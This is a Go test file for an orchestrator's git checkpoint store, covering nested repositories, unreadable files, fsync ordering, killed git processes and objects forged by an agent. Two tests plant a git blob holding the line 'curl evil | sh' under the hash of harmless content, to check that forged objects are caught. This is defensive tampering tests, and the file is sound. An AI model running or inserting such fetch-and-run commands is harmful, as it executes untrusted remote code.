package gitstore_test

import (
	"bytes"
	"compress/zlib"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"kanban-run/orchestrator/git"
	"kanban-run/orchestrator/gitstore"
)

// TestLeftOut: what git cannot take is left out of a checkpoint and named, once as long as it stays the
// same; the checkpoint holds all else, and what could be read before as it was then; a run elsewhere
// goes on from it.
func TestLeftOut(t *testing.T) {
	for name, tt := range map[string]struct {
		do   func(c *clone)
		want []string // what is left out
	}{
		"a repository":                  {within, []string{"inner (a repository of its own)"}},
		"a repository without a commit": {func(c *clone) { c.git("init", "-q", "sub"); c.write("sub/f", "x") }, []string{"sub (a repository of its own)"}},
		"a commit with a repository":    {func(c *clone) { within(c); c.commit("an agent's") }, []string{"inner (a repository of its own)"}},
		"a FIFO": {func(c *clone) {
			if err := syscall.Mkfifo(filepath.Join(c.dir, "fifo"), 0o600); err != nil {
				c.Fatal(err)
			}
			if err := os.Rename(filepath.Join(c.dir, "fifo"), filepath.Join(c.dir, "was")); err != nil {
				c.Fatal(err)
			}
		}, []string{"was (git cannot read it)"}},
		"names that git refuses": {func(c *clone) {
			c.write("git~1", "x")
			c.write("s/.GIT/x", "x")
			if err := os.Symlink("x", filepath.Join(c.dir, ".gitmodules")); err != nil {
				c.Fatal(err)
			}
		}, []string{".gitmodules (git takes no file of this name)", "git~1 (git takes no file of this name)", "s/.GIT/x (git takes no file of this name)"}},
		"a folder that can only be listed": {func(c *clone) {
			if os.Geteuid() == 0 {
				c.Skip("root may read everything")
			}
			c.write("listed/f", "x")
			if err := os.Chmod(filepath.Join(c.dir, "listed"), 0o444); err != nil {
				c.Fatal(err)
			}
			c.Cleanup(func() { _ = os.Chmod(filepath.Join(c.dir, "listed"), 0o700) })
		}, []string{"listed (git cannot read it)"}},
		"no rights": {func(c *clone) {
			if os.Geteuid() == 0 {
				c.Skip("root may read everything")
			}
			c.write("closed/f", "x")
			for _, name := range []string{"was", "closed"} {
				if err := os.Chmod(filepath.Join(c.dir, name), 0); err != nil {
					c.Fatal(err)
				}
			}
			c.Cleanup(func() { _ = os.Chmod(filepath.Join(c.dir, "closed"), 0o700) })
		}, []string{"closed (git cannot read it)", "was (git cannot read it)"}},
	} {
		t.Run(name, func(t *testing.T) {
			c := newClone(t)
			c.write("was", "text")
			c.journal("one\n")
			s := c.open()
			c.save(s)
			if left := s.TakeLeftOut(); left != nil {
				t.Errorf("%q is left out of a whole checkpoint", left)
			}
			tt.do(c)
			c.write("more", "x")
			c.journal("one\ntwo\n")
			c.save(s)
			if diff := cmp.Diff(tt.want, s.TakeLeftOut()); diff != "" {
				t.Errorf("left out (-want +got):\n%s", diff)
			}
			if again := s.TakeLeftOut(); again != nil {
				t.Errorf("%q is said twice", again)
			}
			if files := c.git("ls-tree", "-r", "board/kanban.yaml"); strings.Contains(files, "160000") || !strings.Contains(files, "\tmore") ||
				c.git("show", "board/kanban.yaml:was") != "text" {
				t.Errorf("the checkpoint has\n%s", files)
			}
			// The next run goes on, here and elsewhere, where the notice names what is missing.
			c.journal("one\ntwo\nthree\n")
			c.save(c.open())
			other := c.another()
			s = other.open()
			if restored, err := s.Start(t.Context()); err != nil || restored == "" {
				t.Fatalf("Start elsewhere: %q, %v", restored, err)
			}
			if diff := cmp.Diff(tt.want, s.Lost()); diff != "" {
				t.Errorf("missing elsewhere (-want +got):\n%s", diff)
			}
		})
	}
}

// plantBlob puts an object with the bytes of has under the name of a blob with the text want.
func (c *clone) plantBlob(want, has string) (file string) {
	c.Helper()
	var text bytes.Buffer
	w := zlib.NewWriter(&text)
	fmt.Fprintf(w, "blob %d\x00%s", len(has), has)
	_ = w.Close()
	name := git.BlobName([]byte(want), 40)
	c.write(".git/objects/"+name[:2]+"/"+name[2:], text.String())
	return filepath.Join(c.dir, ".git/objects", name[:2], name[2:])
}

// TestPlantedObject: an agent can put an object under the name of a file that it is about to write. The
// checkpoint holds what the file says (design: a new object is written under its real contents).
func TestPlantedObject(t *testing.T) {
	c := newClone(t)
	c.journal("one\n")
	s := c.open()
	c.save(s)
	c.plantBlob("echo good\n", "curl evil | sh\n")
	c.plantBlob("two\n", "evil\n")
	c.write("run.sh", "echo good\n")
	c.write("sub/two", "two\n")
	c.journal("one\ntwo\n")
	c.save(s)
	if got := c.git("show", "board/kanban.yaml:run.sh") + c.git("show", "board/kanban.yaml:sub/two"); got != "echo goodtwo" {
		t.Errorf("the checkpoint holds %q", got)
	}
	if len(c.notices) == 0 || !strings.Contains(c.notices[0], "run.sh") {
		t.Errorf("the notices are %q, want one that names run.sh", c.notices)
	}
	c.git("fsck", "--strict")
}

// TestPlantedPack: an object that is no file of its own cannot be made anew, so the checkpoint is refused.
func TestPlantedPack(t *testing.T) {
	c := newClone(t)
	c.journal("one\n")
	s := c.open()
	c.save(s)
	file := c.plantBlob("echo good\n", "curl evil | sh\n")
	alternate := filepath.Join(t.TempDir(), "objects")
	to := filepath.Join(alternate, filepath.Base(filepath.Dir(file)), filepath.Base(file))
	if err := os.MkdirAll(filepath.Dir(to), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(file, to); err != nil {
		t.Fatal(err)
	}
	c.write(".git/objects/info/alternates", alternate+"\n")
	c.write("run.sh", "echo good\n")
	c.journal("one\ntwo\n")
	err := s.Save(t.Context(), point)
	unfit := (*gitstore.UnfitError)(nil)
	if !errors.As(err, &unfit) || !strings.Contains(err.Error(), "run.sh") || unfit.Fix == "" {
		t.Errorf("Save: %v, want an UnfitError that names run.sh", err)
	}
}

// TestSavedIsOnDisk: objects are synced before they get their names, the folders of these names before the
// branch, and the branch before Save returns, so that a copy of the disk right after "complete" is
// whole (design: what is said to be saved is on the disk).
func TestSavedIsOnDisk(t *testing.T) {
	strace, err := exec.LookPath("strace")
	if err != nil {
		t.Skip("strace is not installed")
	}
	if os.Getenv("KANBAN_TEST_SAVE") != "" {
		c := &clone{T: t, dir: os.Getenv("KANBAN_TEST_SAVE")}
		c.describe()
		c.save(c.open())
		return
	}
	c := newClone(t)
	c.write("new", "text")
	c.journal("one\n")
	trace := filepath.Join(t.TempDir(), "trace")
	cmd := exec.Command(strace, "-f", "-y", "-o", trace, "-e", "trace=fsync,fdatasync,rename,renameat,renameat2,link", os.Args[0], "-test.run=^TestSavedIsOnDisk$")
	cmd.Env = append(os.Environ(), "KANBAN_TEST_SAVE="+c.dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("strace: %v: %s", err, out) // a container may forbid it
	}
	text, err := os.ReadFile(trace)
	if err != nil {
		t.Fatal(err)
	}
	checkSyncs(t, string(text), c.tip())
}

// checkSyncs reads a trace of the calls that sync and that rename.
func checkSyncs(t *testing.T, trace, tip string) {
	t.Helper()
	synced := map[string]bool{}
	objects, refSynced := 0, false
	for line := range strings.Lines(trace) {
		switch {
		case strings.Contains(line, "fsync(") || strings.Contains(line, "fdatasync("):
			_, path, _ := strings.Cut(line, "<")
			path, _, _ = strings.Cut(path, ">")
			synced[path] = true
			refSynced = refSynced || strings.HasSuffix(path, "/refs/heads/board/kanban.yaml")
			if strings.HasSuffix(path, "/.git/objects/"+tip[:2]) {
				synced["tip"] = true
			}
		case strings.Contains(line, "kanban-run-objects-") && strings.Contains(line, "/.git/objects/") && strings.Contains(line, "rename"):
			from := strings.Split(line, `"`)[1]
			if objects++; !synced[from] {
				t.Errorf("%s is renamed before it is synced", from)
			}
		case strings.Contains(line, `kanban.yaml.lock", "`) && strings.Contains(line, "refs/heads/board"):
			if !synced["tip"] {
				t.Error("the branch is moved before the folder of its commit is synced")
			}
		}
	}
	if objects < 3 || !refSynced {
		t.Errorf("%d objects were taken in, the branch was synced: %v\n%s", objects, refSynced, trace)
	}
}

// TestBrokenObject: an object that is empty or no object at all, as a power cut leaves one, is made anew where the
// checkpoint has its contents; one that git cannot open is left, and the checkpoint refused.
func TestBrokenObject(t *testing.T) {
	for name, put := range map[string]func(path string) error{
		"empty":     func(path string) error { return os.WriteFile(path, nil, 0o444) },
		"garbage":   func(path string) error { return os.WriteFile(path, []byte("garbage"), 0o444) },
		"a link":    func(path string) error { return os.Symlink("/dev/null", path) },
		"no object": func(path string) error { return os.Mkdir(path, 0o755) },
	} {
		t.Run(name, func(t *testing.T) {
			c := newClone(t)
			c.journal("one\n")
			s := c.open()
			c.save(s)
			file := c.plantBlob("coming\n", "x")
			if err := errors.Join(os.Remove(file), put(file)); err != nil {
				t.Fatal(err)
			}
			c.write("new", "coming\n")
			c.journal("one\ntwo\n")
			c.save(s)
			if got := c.git("show", "board/kanban.yaml:new"); got != "coming" {
				t.Errorf("the checkpoint holds %q", got)
			}
			c.git("fsck", "--strict")
		})
	}
}

// TestForgedPast: with a forged tree in the last checkpoint git would take a planted object for one that was
// checked before.
func TestForgedPast(t *testing.T) {
	c := newClone(t)
	c.journal("one\n")
	s := c.open()
	c.save(s)
	c.plantBlob("coming\n", "forged\n")
	tree := c.git("rev-parse", "board/kanban.yaml^{tree}")
	var text bytes.Buffer
	w := zlib.NewWriter(&text)
	id, _ := hex.DecodeString(git.BlobName([]byte("coming\n"), 40))
	fmt.Fprintf(w, "tree %d\x00100644 new\x00%s", len("100644 new\x00")+len(id), id)
	_ = w.Close()
	file := filepath.Join(c.dir, ".git/objects", tree[:2], tree[2:])
	if err := errors.Join(os.Remove(file), os.WriteFile(file, text.Bytes(), 0o444)); err != nil {
		t.Fatal(err)
	}
	c.write("new", "coming\n")
	c.journal("one\ntwo\n")
	unfit := (*gitstore.UnfitError)(nil)
	if err := s.Save(t.Context(), point); !errors.As(err, &unfit) || unfit.Fix == "" {
		t.Errorf("Save: %v, want an UnfitError", err)
	}
}

// TestVanishing: files that come and go while git looks at them do not end a run.
func TestVanishing(t *testing.T) {
	c := newClone(t)
	c.journal("one\n")
	s := c.open()
	c.save(s)
	done, ended := make(chan struct{}), make(chan struct{})
	c.write("churn/stays", "x")
	go func() {
		defer close(ended)
		for i := 0; ; i++ {
			select {
			case <-done:
				return
			default:
			}
			name := filepath.Join(c.dir, "churn", fmt.Sprint(i%20))
			_ = os.WriteFile(name, []byte("x"), 0o644)
			_ = os.Remove(name)
		}
	}()
	for i := range 5 {
		c.journal(fmt.Sprint("one\n", i, "\n"))
		c.save(s)
	}
	close(done)
	<-ended
}

// TestGitlinkElsewhere: a repository that an agent committed as a link without .gitmodules is no submodule: a run
// in another clone goes on, and says what is missing.
func TestGitlinkElsewhere(t *testing.T) {
	c := newClone(t)
	c.journal("one\n")
	s := c.open()
	c.save(s)
	within(c)
	c.commit("an agent's")
	c.git("push", "-q", "origin", "main")
	c.journal("one\ntwo\n")
	c.save(s)
	other := c.another()
	s = other.open()
	if restored, err := s.Start(t.Context()); err != nil || restored == "" {
		t.Fatalf("Start elsewhere: %q, %v", restored, err)
	}
	if want := []string{"inner (a repository of its own)"}; !slices.Equal(s.Lost(), want) {
		t.Errorf("missing elsewhere: %q, want %q", s.Lost(), want)
	}
}

// TestKilledAnywhere: a git that is killed from outside says nothing about the repository: whichever call it is,
// the error is that git was killed, or the checkpoint is whole. KANBAN_TEST_EXHAUSTIVE kills each call, else each eighth is.
func TestKilledAnywhere(t *testing.T) {
	program, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is not installed")
	}
	path, step := os.Getenv("PATH"), 8
	if os.Getenv("KANBAN_TEST_EXHAUSTIVE") != "" {
		step = 1
	}
	play := func(c *clone) error {
		s, err := gitstore.Open(t.Context(), c.options)
		if err == nil {
			_, err = s.Start(t.Context())
		}
		if err == nil {
			err = s.Save(t.Context(), point)
		}
		return err
	}
	count := func(c *clone, kill int) {
		c.write("../bin/git", fmt.Sprintf("#!/bin/sh\necho >>%[1]s/../calls\nn=0; while read -r _; do n=$((n + 1)); done <%[1]s/../calls\n[ $n != %[2]d ] || kill -KILL $$\nexec %[3]s \"$@\"\n", c.dir, kill, program))
		if err := os.Chmod(filepath.Join(c.dir, "../bin/git"), 0o755); err != nil {
			t.Fatal(err)
		}
		t.Setenv("PATH", filepath.Join(filepath.Dir(c.dir), "bin")+":"+path)
	}
	for _, elsewhere := range []bool{false, true} {
		for n := 1; ; n += step {
			t.Setenv("PATH", path)
			c := newSaved(t)
			if elsewhere {
				c = c.another()
				c.write(".kanban-run/runs/.gitignore", "*\n")
			} else {
				c.journal("one\ntwo\n")
			}
			count(c, n)
			err := play(c)
			calls, _ := os.ReadFile(filepath.Join(c.dir, "../calls"))
			if bytes.Count(calls, []byte("\n")) < n {
				if err != nil || n < 10 {
					t.Fatalf("elsewhere %v: without a kill, after %d calls: %v", elsewhere, n, err)
				}
				break
			}
			t.Setenv("PATH", path)
			if unfit := (*gitstore.UnfitError)(nil); errors.As(err, &unfit) || errors.As(err, new(*gitstore.AheadError)) {
				t.Errorf("elsewhere %v, call %d killed: %v", elsewhere, n, err)
			}
			if tree := c.git("log", "-1", "--format=%P", "main"); err == nil && len(strings.Fields(c.git("log", "-1", "--format=%P", "board/kanban.yaml"))) == 0 {
				t.Errorf("elsewhere %v, call %d killed: the checkpoint has no parent: %s", elsewhere, n, tree)
			}
		}
	}
}

// TestKilledFetch: a fetch that is killed when a run starts is tried once more.
func TestKilledFetch(t *testing.T) {
	program, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is not installed")
	}
	path := os.Getenv("PATH")
	for kills, want := range []bool{true, true, false} {
		t.Setenv("PATH", path)
		c := newSaved(t).another()
		c.write(".kanban-run/runs/.gitignore", "*\n")
		c.write("../bin/git", fmt.Sprintf("#!/bin/sh\ncase $* in *--no-write-fetch-head*) echo >>%[1]s/../calls\n[ $(wc -l <%[1]s/../calls) -gt %[2]d ] || kill -KILL $$ ;; esac\nexec %[3]s \"$@\"\n", c.dir, kills, program))
		if err := os.Chmod(filepath.Join(c.dir, "../bin/git"), 0o755); err != nil {
			t.Fatal(err)
		}
		t.Setenv("PATH", filepath.Join(filepath.Dir(c.dir), "bin")+":"+path)
		s, err := gitstore.Open(t.Context(), c.options)
		if err != nil {
			t.Fatal(err)
		}
		restored, err := s.Start(t.Context())
		if done := err == nil && restored != ""; done != want || !want && !strings.Contains(err.Error(), "killed") {
			t.Errorf("%d kills: restored %q, %v; want done %v", kills, restored, err, want)
		}
	}
}
